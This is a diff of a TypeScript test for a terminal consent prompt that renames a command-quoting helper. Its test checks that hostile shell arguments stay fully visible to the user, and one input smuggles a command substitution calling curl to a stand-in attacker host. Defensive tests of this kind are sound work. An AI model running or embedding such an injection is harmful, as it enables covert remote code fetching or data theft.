@@ -6,7 +6,7 @@ import { verifies } from '../../../test/support/verifies.ts';
 import { type Clock, systemClock } from '../../peer/clock.ts';
 import type { Act } from '../act/act.ts';
 import { bindingOf } from '../act/binding.ts';
-import { commandAddress } from '../servers/command-address.ts';
+import { quoteCommand } from '../servers/quote-command.ts';
 import type { Consent, ConsentAnswer, ConsentQuestion } from './consent.ts';
 import { terminalConsent } from './terminal-consent.ts';
 
@@ -156,7 +156,7 @@ describe('on a terminal', () => {
     ['-c', '-u a:$(curl$IFS.evil.example)'],
   ])('no part of a command is hidden that can be more than a secret: %j', async (...args) => {
     const terminal = new Terminal();
-    const asked = terminal.ask(question({ kind: 'spawn', name: commandAddress(['sh', ...args]), arguments: { args } }));
+    const asked = terminal.ask(question({ kind: 'spawn', name: quoteCommand(['sh', ...args]), arguments: { args } }));
     await terminal.type('n\r');
     await asked;
     for (const arg of args) expect(terminal.shown).toContain(JSON.stringify(arg));
